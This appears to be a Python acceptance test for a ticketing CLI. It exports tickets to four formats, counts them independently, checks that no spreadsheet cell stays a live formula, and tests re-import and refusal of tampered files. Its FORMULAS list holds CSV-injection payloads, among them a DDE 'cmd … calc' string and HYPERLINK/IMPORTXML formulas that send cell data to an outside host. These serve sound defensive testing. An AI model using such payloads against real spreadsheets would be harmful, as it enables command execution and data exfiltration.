"""Line 2: tickets out in four formats, counted independently, nothing alive; into an empty store, exact and once."""

import csv
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Sequence
from pathlib import Path

from cxloop_tui.domain.cells import unharmed
from tests.acceptance import Outcome
from tests.workbooks import read_workbook

SURVEYS = Path(__file__).resolve().parents[3] / "shared" / "data" / "surveys"
TELECOM = "telecom_nps_verbatim_open.csv"
DEMO_TICKETS = "400"
LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
FORMULAS = (
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1", '"=1', "＝1",
    '=HYPERLINK("http://e/?"&A1)', '=IMPORTXML("http://e/","//a")', "a,b", 'a"b', "a\nb", ";=1", "-5",
)  # fmt: skip
"""What spreadsheets take for formulas, or for more than one cell."""


def run() -> Outcome:
    """Export a demo store and that of a real survey, and take both in elsewhere."""
    title = "tickets out in four formats and into an empty store, exact, once, with nothing alive"
    counts: dict[str, int | str] = {}
    problems: list[str] = []
    with tempfile.TemporaryDirectory() as directory:
        at = Path(directory)
        stores = {"demo": _demo(at)}
        if (SURVEYS / TELECOM).is_file():
            stores["telecom"] = _telecom(at)
        else:
            problems.append("telecom: the survey is not on this machine")
        for name, store in stores.items():
            counts |= _shown(at, name, store, problems)
    return Outcome(2, title, counts, problems)


def _demo(at: Path) -> Path:
    """Make a demo store, with every hostile input in a ticket of its own."""
    store = at / "demo.db"
    _run(at, store, ["demo", "--tickets", DEMO_TICKETS, "--seed", "1", "--into", str(store)]).check_returncode()
    segment = json.loads(_run(at, store, ["segments", "list", "--json"]).stdout.splitlines()[0])["code"]
    for words in FORMULAS:
        new = ["new", "--email", "a@b.example", "--segment", segment, "--owner", "me"]
        made = _run(at, store, [*new, f"--comment={words}", f"--name={words.strip()}"])
        made.check_returncode()
    return store


def _telecom(at: Path) -> Path:
    store = at / "telecom.db"
    shutil.copy(SURVEYS / TELECOM, at / TELECOM)
    _run(at, store, ["init", "--name", "Ada", "--email", "ada@example.org"]).check_returncode()
    arguments = ["import", "responses", TELECOM, "--kind", "nps", "--missing-email", "allow"]
    _run(at, store, arguments).check_returncode()
    return store


def _shown(at: Path, name: str, store: Path, problems: list[str]) -> dict[str, int | str]:
    """Export one store to all formats, count, and take it in elsewhere."""
    tickets = [json.loads(line) for line in _run(at, store, ["tickets", "--json"]).stdout.splitlines()]
    counts: dict[str, int | str] = {f"{name}: tickets listed": len(tickets)}
    for ending in ("csv", "xlsx", "json", "ndjson"):
        said = _run(at, store, ["export", "--output", f"{name}.{ending}", "--json"])
        said.check_returncode()
        counts[f"{name}: {ending} by an independent count"] = found = _counted(at / f"{name}.{ending}")
        if (found, json.loads(said.stdout)["tickets"]) != (len(tickets), len(tickets)):
            problems.append(f"{name}.{ending}: {len(tickets)} listed, {found} found, it says {said.stdout.strip()}")
    counts[f"{name}: cells that could be a formula, harmless"] = _alive(at, name, tickets, problems)
    return counts | _taken_in(at, name, store, tickets, problems)


def _counted(file: Path) -> int:
    """Count tickets without the program."""
    match file.suffix:
        case ".csv":
            with file.open(encoding="utf-8-sig", newline="") as stream:
                return sum(1 for _ in csv.DictReader(stream))
        case ".xlsx":
            return sum(len(sheet.rows) - 1 for sheet in read_workbook(file))
        case ".json":
            return len(json.loads(file.read_text(encoding="utf-8")))
        case _:
            lines = map(json.loads, file.read_text(encoding="utf-8").split("\n")[1:-2])
            return sum(line["operation"]["kind"] == "ticket.create" for line in lines)


def _alive(at: Path, name: str, tickets: Sequence[dict[str, object]], problems: list[str]) -> int:
    """Look at every cell of CSV and workbook; return how many would have been formulas."""
    by_id = {str(ticket["id"]): ticket for ticket in tickets}
    guarded = 0
    with (at / f"{name}.csv").open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.DictReader(stream):
            for column, cell in row.items():
                begins = cell.lstrip(" \"'").startswith(LIVE)
                is_number = cell.lstrip("+-").replace(".", "", 1).isdecimal()
                if cell.startswith(LIVE) and not is_number:
                    problems.append(f"{name}.csv: {column} of #{row['number']} is alive: {cell!r}")
                guarded += begins and cell.startswith("'")
            if unharmed(row["comment"]) != by_id[row["id"]]["comment"]:
                problems.append(f"{name}.csv: the words of #{row['number']} are not what they were")
    alive = sum(len(sheet.alive) for sheet in read_workbook(at / f"{name}.xlsx"))
    if alive:
        problems.append(f"{name}.xlsx: {alive} formulas or links live in it")
    return guarded


def _taken_in(
    at: Path, name: str, store: Path, tickets: Sequence[dict[str, object]], problems: list[str]
) -> dict[str, int | str]:
    """Import into an empty store, compare, import again, and with one operation changed."""
    other, file = at / f"{name}-taken.db", f"{name}.ndjson"
    _run(at, other, ["init", "--name", "Neo", "--email", "neo@example.org"]).check_returncode()
    first = _imported(at, other, file)
    same = sum(
        shown == there for shown, there in zip(_all(at, store, tickets), _all(at, other, tickets), strict=True)
    )
    if same != len(tickets):
        problems.append(f"{name}: {same} of {len(tickets)} tickets are the same byte for byte")
    again = _imported(at, other, file)
    if again["already"] != len(tickets) or again["operations"] or again["responses"] or again["people"]:
        problems.append(f"{name}: a second import changes something: {again}")
    refusal = _refused(at, other, file, problems)
    if _run(at, other, ["doctor"]).returncode:
        problems.append(f"{name}: the doctor finds something")
    return {
        f"{name}: tickets taken in": first["tickets"],
        f"{name}: the same byte for byte": same,
        f"{name}: new the second time": again["tickets"] + again["operations"],
        f"{name}: changed content": refusal,
    }


def _all(at: Path, store: Path, tickets: Sequence[dict[str, object]]) -> list[str]:
    """Return what `show --json` prints of each ticket; one process for all, for there are thousands."""
    script = (
        "import sys\n"
        "from cxloop_tui.cli.invocation import Invocation\n"
        "from cxloop_tui.cli.main import run\n"
        "for ticket in sys.stdin.read().split():\n"
        "    run(['show', ticket, '--json'], Invocation())\n"
    )
    shown = _python(at, store, ["-c", script], " ".join(str(ticket["id"]) for ticket in tickets))
    shown.check_returncode()
    return shown.stdout.splitlines()


def _refused(at: Path, store: Path, file: str, problems: list[str]) -> str:
    """Change one operation that is on record, and see the file refused by line and id, and nothing written."""
    lines = (at / file).read_text(encoding="utf-8").split("\n")
    records = ((number, json.loads(line)) for number, line in enumerate(lines, 1))
    place, record = next(
        (number, record) for number, record in records if record.get("operation", {}).get("kind") == "ticket.create"
    )
    record["operation"]["comment"] = "something else"
    lines[place - 1] = json.dumps(record)
    (at / f"changed-{file}").write_text("\n".join(lines), encoding="utf-8")
    before = _run(at, store, ["tickets", "--json"]).stdout
    said = _run(at, store, ["import", "tickets", f"changed-{file}"])
    names_it = f"line {place:,}: operation {record['operation']['id']}" in said.stderr
    if said.returncode != 4 or not names_it or _run(at, store, ["tickets", "--json"]).stdout != before:
        problems.append(f"{file}: a changed operation is not refused by line and id: {said.stderr!r}")
    return "refused by line and id" if names_it else "not refused"


def _imported(at: Path, store: Path, file: str) -> dict[str, int]:
    said = _run(at, store, ["import", "tickets", file, "--json"])
    said.check_returncode()
    counts: dict[str, int] = json.loads(said.stdout)
    return counts


def _run(at: Path, store: Path, arguments: Sequence[str]) -> subprocess.CompletedProcess[str]:
    return _python(at, store, ["-m", "cxloop_tui", *arguments], "")


def _python(at: Path, store: Path, arguments: Sequence[str], stdin: str) -> subprocess.CompletedProcess[str]:
    (at / "config.toml").touch()
    environment = {**os.environ, "CXLOOP_STORE": str(store), "CXLOOP_CONFIG": str(at / "config.toml")}
    return subprocess.run(
        [sys.executable, *arguments],
        cwd=at,
        env=environment,
        input=stdin,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
    )
